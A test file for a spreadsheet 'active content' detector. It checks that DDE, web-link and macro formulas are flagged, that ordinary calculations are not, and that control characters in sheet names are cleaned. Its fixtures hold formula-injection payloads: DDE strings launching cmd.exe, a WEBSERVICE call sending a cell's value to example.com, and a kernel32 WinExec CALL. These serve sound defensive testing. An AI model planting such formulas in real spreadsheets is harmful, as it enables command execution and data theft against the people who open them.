// Formulas that reach another program or the network are active content whatever sheet they sit
// on; ordinary calculations, and the same words inside quoted text, are not.
import { activeFormulas, formulaKind } from '../../../shared/workbook/activeContent';

describe('formulaKind', () => {
  it.each([
    ["cmd|' /C calc'!A0", 'dde'],
    ['cmd|calc!A0', 'dde'],
    ["SUM(B2:B4)+msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", 'dde'],
    ['DDE("cmd","/C calc","A0")', 'dde'],
    ['ddeauto("x","y")', 'dde'],
    ['WEBSERVICE("https://example.com/?d="&A1)', 'web_link'],
    ['hyperlink("mailto:a@b.c","x")', 'web_link'],
    ['IFERROR(FILTERXML(B1,"//x"),0)', 'web_link'],
    ['CALL("kernel32","WinExec","JCJ","calc",0)', 'macros'],
  ])('%s → %s', (formula, kind) => {
    expect(formulaKind(formula)).toBe(kind);
  });

  it.each([
    'SUM(B2:B13)',
    "'Factors'!C4*B5",
    'EF_grid*B5/1000',
    'IF(B5="cmd|x!A0","yes","no")',
    'COUNT(B5:M5)',
    '"WEBSERVICE(" & A1',
  ])('%s is an ordinary calculation', (formula) => {
    expect(formulaKind(formula)).toBeNull();
  });

  it('names the sheet, cell and formula, without control characters', () => {
    const found = activeFormulas({
      sheets: [
        {
          name: 'Metrics\u001b[2J',
          state: 'visible',
          rows: [],
          formulas: new Map([
            ['B5', "cmd|' /C calc'!A0"],
            ['C5', 'SUM(B5:B6)'],
          ]),
        },
      ],
    });
    expect(found).toEqual([{ kind: 'dde', where: "Metrics\uFFFD[2J!B5 =cmd|' /C calc'!A0" }]);
  });
});
